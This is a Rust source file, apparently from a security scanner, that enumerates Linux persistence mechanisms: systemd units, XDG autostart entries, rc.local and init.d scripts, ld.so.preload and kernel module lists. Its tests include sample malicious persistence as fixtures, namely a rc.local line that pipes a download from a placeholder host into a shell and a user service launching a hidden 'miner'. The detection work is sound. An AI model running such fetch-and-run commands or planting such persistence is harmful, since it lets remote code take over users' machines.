//! Linux probes: systemd units, XDG autostart, boot scripts, the dynamic
//! loader preload list and kernel module load lists.

use super::{home_path, scan_file, FirstError, Probe, ProbeContext, ProbeError, LINUX};
use crate::core::types::{Artifact, MechanismKind, Platform};
use crate::parser::Grammar;
use std::path::{Path, PathBuf};

pub const SYSTEMD_DIRS: &[&str] = &[
    "/etc/systemd/system",
    "/usr/lib/systemd/system",
    "/etc/systemd/user",
    "/usr/lib/systemd/user",
];

pub const XDG_AUTOSTART_DIRS: &[&str] = &["/etc/xdg/autostart"];

pub const RC_LOCAL_FILES: &[&str] = &["/etc/rc.local", "/etc/rc.d/rc.local"];

pub const INIT_SCRIPT_DIRS: &[&str] = &["/etc/init.d"];

pub const LD_PRELOAD_FILE: &str = "/etc/ld.so.preload";

pub const MODULES_FILE: &str = "/etc/modules";

pub const MODULES_LOAD_DIRS: &[&str] = &[
    "/etc/modules-load.d",
    "/usr/lib/modules-load.d",
    "/run/modules-load.d",
];

/// Helper scripts `/etc/init.d` ships that start nothing themselves.
const INIT_HELPERS: &[&str] = &["README", "skeleton", "functions", "rc", "rcS", ".depend.boot"];

pub(super) fn probes() -> Vec<Box<dyn Probe>> {
    vec![
        Box::new(SystemdUnitsProbe),
        Box::new(XdgAutostartProbe),
        Box::new(BootScriptsProbe),
        Box::new(LdPreloadProbe),
        Box::new(KernelModulesProbe),
    ]
}

/// Parse every matching file in each directory.
fn scan_dirs(
    ctx: &ProbeContext,
    dirs: &[PathBuf],
    extension: &str,
    grammar: Grammar,
    out: &mut Vec<Artifact>,
) -> Result<(), ProbeError> {
    let mut errors = FirstError::default();
    for dir in dirs {
        let Some(files) = errors.note(ctx.list_files(dir, extension))? else {
            continue;
        };
        for file in files {
            if ctx.is_cancelled() {
                return Err(ProbeError::Cancelled);
            }
            errors.note(scan_file(ctx, &file, grammar.clone(), out))?;
        }
    }
    errors.finish()
}

fn system_dirs(dirs: &[&str]) -> Vec<PathBuf> {
    dirs.iter().map(PathBuf::from).collect()
}

/// systemd service units, system-wide and per user.
pub struct SystemdUnitsProbe;

impl Probe for SystemdUnitsProbe {
    fn name(&self) -> &'static str {
        "systemd_units"
    }

    fn platforms(&self) -> &'static [Platform] {
        LINUX
    }

    fn scan(&self, ctx: &ProbeContext, out: &mut Vec<Artifact>) -> Result<(), ProbeError> {
        let mut dirs = system_dirs(SYSTEMD_DIRS);
        dirs.extend(
            ctx.home_dirs()
                .iter()
                .map(|home| home_path(home, &[".config", "systemd", "user"])),
        );
        scan_dirs(ctx, &dirs, "service", Grammar::SystemdUnit, out)
    }
}

/// XDG autostart `.desktop` entries.
pub struct XdgAutostartProbe;

impl Probe for XdgAutostartProbe {
    fn name(&self) -> &'static str {
        "xdg_autostart"
    }

    fn platforms(&self) -> &'static [Platform] {
        LINUX
    }

    fn scan(&self, ctx: &ProbeContext, out: &mut Vec<Artifact>) -> Result<(), ProbeError> {
        let mut dirs = system_dirs(XDG_AUTOSTART_DIRS);
        dirs.extend(
            ctx.home_dirs()
                .iter()
                .map(|home| home_path(home, &[".config", "autostart"])),
        );
        scan_dirs(ctx, &dirs, "desktop", Grammar::DesktopEntry, out)
    }
}

/// `rc.local` commands and SysV init scripts.
pub struct BootScriptsProbe;

impl BootScriptsProbe {
    /// One artifact per executing line of an rc.local file.
    fn scan_rc_local(ctx: &ProbeContext, file: &Path, out: &mut Vec<Artifact>) -> Result<(), ProbeError> {
        let mut lines = Vec::new();
        scan_file(ctx, file, Grammar::ShellProfile, &mut lines)?;
        for mut artifact in lines {
            artifact.mechanism_kind = MechanismKind::BootScript;
            if artifact.path.is_none() {
                artifact.set_path(file);
            }
            out.push(artifact);
        }
        Ok(())
    }

    fn init_script(ctx: &ProbeContext, dir: &Path, script: &Path) -> Artifact {
        let name = script
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        let mut artifact = Artifact::new(
            ctx.platform,
            MechanismKind::BootScript,
            name,
            dir.to_string_lossy(),
        )
        .with_path(script);
        ctx.annotate_file(&mut artifact, script);
        artifact
    }
}

impl Probe for BootScriptsProbe {
    fn name(&self) -> &'static str {
        "boot_scripts"
    }

    fn platforms(&self) -> &'static [Platform] {
        LINUX
    }

    fn scan(&self, ctx: &ProbeContext, out: &mut Vec<Artifact>) -> Result<(), ProbeError> {
        let mut errors = FirstError::default();
        for file in RC_LOCAL_FILES {
            errors.note(Self::scan_rc_local(ctx, Path::new(file), out))?;
        }
        for dir in system_dirs(INIT_SCRIPT_DIRS) {
            let Some(scripts) = errors.note(ctx.list_files(&dir, ""))? else {
                continue;
            };
            for script in scripts {
                let helper = script
                    .file_name()
                    .is_some_and(|n| INIT_HELPERS.contains(&&*n.to_string_lossy()));
                if !helper {
                    out.push(Self::init_script(ctx, &dir, &script));
                }
            }
        }
        errors.finish()
    }
}

/// `/etc/ld.so.preload`.
pub struct LdPreloadProbe;

impl Probe for LdPreloadProbe {
    fn name(&self) -> &'static str {
        "ld_preload"
    }

    fn platforms(&self) -> &'static [Platform] {
        LINUX
    }

    fn scan(&self, ctx: &ProbeContext, out: &mut Vec<Artifact>) -> Result<(), ProbeError> {
        let grammar = Grammar::LineList(MechanismKind::PreloadLibrary);
        scan_file(ctx, Path::new(LD_PRELOAD_FILE), grammar, out).map(|_| ())
    }
}

/// `/etc/modules` and `modules-load.d` lists.
pub struct KernelModulesProbe;

impl Probe for KernelModulesProbe {
    fn name(&self) -> &'static str {
        "kernel_modules"
    }

    fn platforms(&self) -> &'static [Platform] {
        LINUX
    }

    fn scan(&self, ctx: &ProbeContext, out: &mut Vec<Artifact>) -> Result<(), ProbeError> {
        let grammar = Grammar::LineList(MechanismKind::KernelModule);
        let mut errors = FirstError::default();
        errors.note(scan_file(ctx, Path::new(MODULES_FILE), grammar.clone(), out))?;
        errors.note(scan_dirs(ctx, &system_dirs(MODULES_LOAD_DIRS), "conf", grammar, out))?;
        errors.finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gateway::ScriptedGateway;
    use std::fs;
    use std::sync::Arc;
    use std::time::Duration;
    use tempfile::TempDir;

    fn context(root: &Path) -> ProbeContext {
        ProbeContext::new(Platform::Linux, Arc::new(ScriptedGateway::new()), Duration::from_secs(5))
            .with_root(root)
            .with_home_dirs(vec![PathBuf::from("/home/u")])
            .isolated_env()
    }

    fn write(root: &Path, rel: &str, content: &str) {
        let path = root.join(rel);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
    }

    #[test]
    fn test_systemd_units_system_and_user() {
        let dir = TempDir::new().unwrap();
        write(
            dir.path(),
            "etc/systemd/system/backup.service",
            "[Service]\nExecStart=/usr/local/bin/backup --daily\n",
        );
        write(
            dir.path(),
            "home/u/.config/systemd/user/miner.service",
            "[Service]\nExecStart=/tmp/.x/miner\n",
        );
        write(dir.path(), "etc/systemd/system/backup.timer", "[Timer]\nOnCalendar=daily\n");

        let mut out = Vec::new();
        SystemdUnitsProbe.scan(&context(dir.path()), &mut out).unwrap();
        let names: Vec<&str> = out.iter().map(|a| a.name.as_str()).collect();
        assert_eq!(names, vec!["backup.service", "miner.service"]);
        assert_eq!(out[1].location, "/home/u/.config/systemd/user/miner.service");
        assert!(out[0].permissions.is_some() || cfg!(not(unix)));
    }

    #[test]
    fn test_missing_locations_are_empty() {
        let dir = TempDir::new().unwrap();
        let ctx = context(dir.path());
        for probe in probes() {
            let mut out = Vec::new();
            probe.scan(&ctx, &mut out).unwrap();
            assert!(out.is_empty(), "{} found something", probe.name());
        }
    }

    #[test]
    fn test_rc_local_lines_and_init_scripts() {
        let dir = TempDir::new().unwrap();
        write(
            dir.path(),
            "etc/rc.local",
            "#!/bin/sh -e\n/usr/bin/curl -s http://x.example/i | sh\nexit 0\n",
        );
        write(dir.path(), "etc/init.d/acme-agent", "#!/bin/sh\n");
        write(dir.path(), "etc/init.d/README", "docs\n");

        let mut out = Vec::new();
        BootScriptsProbe.scan(&context(dir.path()), &mut out).unwrap();
        assert_eq!(out.len(), 2);
        assert_eq!(out[0].mechanism_kind, MechanismKind::BootScript);
        assert!(out[0].command.as_deref().unwrap().contains("curl"));
        assert_eq!(out[1].name, "acme-agent");
    }

    #[test]
    fn test_preload_and_modules() {
        let dir = TempDir::new().unwrap();
        write(dir.path(), "etc/ld.so.preload", "/usr/lib/libhook.so\n");
        write(dir.path(), "etc/modules", "# modules\nloop\n");
        write(dir.path(), "etc/modules-load.d/vbox.conf", "vboxdrv\n");

        let ctx = context(dir.path());
        let mut preload = Vec::new();
        LdPreloadProbe.scan(&ctx, &mut preload).unwrap();
        assert_eq!(preload.len(), 1);
        assert_eq!(preload[0].meta("target_exists"), Some("false"));

        let mut modules = Vec::new();
        KernelModulesProbe.scan(&ctx, &mut modules).unwrap();
        let names: Vec<&str> = modules.iter().map(|a| a.name.as_str()).collect();
        assert_eq!(names, vec!["loop", "vboxdrv"]);
    }

    #[test]
    fn test_disabled_desktop_entry_skipped() {
        let dir = TempDir::new().unwrap();
        write(
            dir.path(),
            "etc/xdg/autostart/tracker.desktop",
            "[Desktop Entry]\nName=Tracker\nExec=/usr/bin/tracker\n",
        );
        write(
            dir.path(),
            "home/u/.config/autostart/tracker.desktop",
            "[Desktop Entry]\nHidden=true\nExec=/usr/bin/tracker\n",
        );
        let mut out = Vec::new();
        XdgAutostartProbe.scan(&context(dir.path()), &mut out).unwrap();
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].location, "/etc/xdg/autostart/tracker.desktop");
    }
}
